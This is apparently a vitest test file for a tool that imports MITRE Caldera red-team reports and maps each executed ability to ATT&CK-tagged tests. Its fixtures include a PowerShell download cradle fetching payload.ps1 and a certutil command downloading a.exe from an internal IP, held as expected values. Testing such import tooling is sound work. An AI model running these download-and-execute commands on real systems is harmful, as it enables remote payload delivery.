import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../../../test/harness.js';
import { parseExecutionFile } from './formats/detect.js';
import { automationWorld, fixture, type AutomationWorld } from './test-automation.js';

const file = (name: string) => [{ name, content: fixture(name) }];

/** A Caldera operation report (or event log) uploaded as a file (both databases). */
describe('execution import: Caldera report files', () => {
  let t: TestApp;
  let w: AutomationWorld;
  let caldera: string;
  beforeAll(async () => {
    t = await createTestApp();
    w = await automationWorld(t);
    caldera = (
      await w.ok('lead', 'POST', `/api/missions/${w.missionId}/assets`, {
        kind: 'red_tool',
        name: 'Caldera',
      })
    ).json<{ id: string }>().id;
  });
  afterAll(() => t.close());

  it('recognises the report by content and maps every link', async () => {
    const { job, report } = await w.run('red', file('caldera-report.json'));
    expect(job.status, JSON.stringify(job.error)).toBe('succeeded');
    expect(report!.files).toEqual([
      { name: 'caldera-report.json', format: 'caldera', error: null, procedures: 5 },
    ]);
    const [cradle, encoded, transfer, owner, discarded] = report!.rows;
    // The ability id is the Atomic test's guid.
    expect(cradle).toMatchObject({
      outcome: 'filled',
      matched_by: 'guid',
      test_id: w.tests.cradle,
    });
    // A hashed ability id (Caldera's Atomic plugin): T1059.001 is on two tests, the name decides.
    expect(encoded).toMatchObject({ outcome: 'filled', test_id: w.tests.encoded });
    expect(encoded!.notes.join(' ')).toContain('the one named as the procedure');
    expect(transfer).toMatchObject({ outcome: 'filled', test_id: w.tests.transfer });
    expect(transfer!.notes.join(' ')).toMatch(/status 124/);
    expect(owner).toMatchObject({ outcome: 'unmatched', technique_id: 'T1033' });
    expect(discarded!.outcome).toBe('error');
    expect(discarded!.notes[0]).toMatch(/status -2 \(discarded\): the ability did not run/);

    const c = await w.test(w.tests.cradle);
    expect(c.state).toBe('executed');
    expect(c.red_command).toBe(
      "IEX (New-Object Net.WebClient).DownloadString('http://127.0.0.1/payload.ps1')",
    );
    expect(c.red_output).toBe('payload ran');
    expect(c.execution_result).toBe('succeeded');
    expect(c.executed_at).toBe('2026-12-01T09:01:00.000Z');
    expect(c.attack_started_at).toBe('2026-12-01T09:01:00.000Z');
    expect(c.attack_ended_at).toBe('2026-12-01T09:01:42.000Z');
    expect(c.account_used).toBe('FINANCE\\alice');
    expect(c.target_asset_id).toBe(w.assets.ws01);
    expect(c.red_tool_id).toBe(caldera);
    const e = await w.test(w.tests.encoded);
    expect(e.execution_result).toBe('failed');
    expect(e.red_output).toBe('[STDERR]\nAccess is denied.');
    expect((await w.test(w.tests.transfer)).execution_result).toBe('failed');
  });

  it('never overwrites: the same report again changes nothing', async () => {
    const { report } = await w.run('red', file('caldera-report.json'));
    expect(report!.rows.slice(0, 3).map((r) => r.outcome)).toEqual([
      'unchanged',
      'unchanged',
      'unchanged',
    ]);
    expect(report!.applied).toBe(false);
  });

  it('a differing Caldera 4.0 report is a conflict unless overwrite', async () => {
    const { report } = await w.run('red', file('caldera-report-v4.json'), { dry_run: 'true' });
    const [row] = report!.rows;
    expect(row!.outcome).toBe('conflict');
    const command = row!.conflicts.find((x) => x.field === 'red_command');
    // The base64 command Caldera 4.0 keeps is decoded.
    expect(command?.incoming).toBe('certutil.exe -urlcache -split -f http://10.0.0.5/a.exe a.exe');
    const over = await w.run('red', file('caldera-report-v4.json'), { overwrite: 'true' });
    expect(over.report!.rows[0]!.outcome).toBe('filled');
    const d = await w.test(w.tests.transfer);
    expect(d.red_command).toBe('certutil.exe -urlcache -split -f http://10.0.0.5/a.exe a.exe');
    expect(d.red_output).toContain('CertUtil: -URLCache command completed successfully.');
    expect(d.execution_result).toBe('succeeded');
  });

  it('reads event logs, creating tests for unmatched links when asked', async () => {
    const { report } = await w.run('red', file('caldera-event-logs.json'), {
      create_unmatched: 'true',
      dry_run: 'true',
    });
    expect(report!.files[0]).toMatchObject({ format: 'caldera', procedures: 2 });
    // In the order they ran (delegated time), not file order.
    expect(report!.rows.map((r) => [r.technique_id, r.outcome])).toEqual([
      ['T1105', 'conflict'],
      ['T1033', 'created'],
    ]);
  });
});

describe('Caldera parser', () => {
  const parse = (doc: unknown) => parseExecutionFile('c.json', Buffer.from(JSON.stringify(doc)));

  it('reads the operation itself (GET /api/v2/operations/{id}) and skips cleanup links', () => {
    const p = parseExecutionFile('op.json', fixture('caldera-operation.json'));
    expect(p.file).toMatchObject({ format: 'caldera', error: null, procedures: 1 });
    expect(p.facts[0]).toMatchObject({
      guid: '3c4f5a6b-7d8e-4f90-a1b2-c3d4e5f60718',
      host: 'WS01',
      ip: '10.0.0.15',
      output: null,
      result: 'succeeded',
    });
    expect(p.facts[0]!.startedAt?.toISOString()).toBe('2026-12-01T09:01:05.000Z');
  });

  it('refuses Caldera-looking documents of the wrong shape, naming the problem', () => {
    const bad = parse({ name: 'x', host_group: [], steps: [1, 2] });
    expect(bad.file.error).toMatch(/^Not a Caldera operation report: steps/);
    expect(parse([]).file.error).toMatch(/empty JSON list/);
    const noTech = parse([{ delegated_timestamp: 'x', status: 0, attack_metadata: {} }]);
    expect(noTech.facts[0]!.fatal).toMatch(/has no ATT&CK technique id/);
  });

  it('maps statuses and output shapes', () => {
    const ev = (status: unknown, output?: unknown) =>
      parse([
        {
          delegated_timestamp: '2026-12-01T09:00:00Z',
          finished_timestamp: '2026-12-01T08:00:00Z',
          status,
          attack_metadata: { technique_id: 't1082' },
          command: 'systeminfo',
          ...(output === undefined ? {} : { output }),
        },
      ]).facts[0]!;
    expect(ev(-3).fatal).toMatch(/no result yet/);
    expect(ev(-4).fatal).toMatch(/untrusted/);
    expect(ev(-5).fatal).toMatch(/too visible/);
    const unknown = ev(7, { stdout: 'ok', exit_code: 0 });
    expect(unknown.result).toBe('succeeded'); // from exit_code when the status says nothing
    expect(unknown.notes.join(' ')).toMatch(/status 7 is unknown/);
    expect(unknown.notes.join(' ')).toMatch(/finishes before it starts/);
    expect(unknown.techniqueId).toBe('T1082');
    const b64 = Buffer.from(JSON.stringify({ stdout: 'host\n', stderr: '', exit_code: '0' }));
    expect(ev(0, b64.toString('base64')).output).toBe('host\n');
    expect(ev(0, 'plain text').output).toBe('plain text');
    expect(ev(0).command).toBe('systeminfo');
  });
});
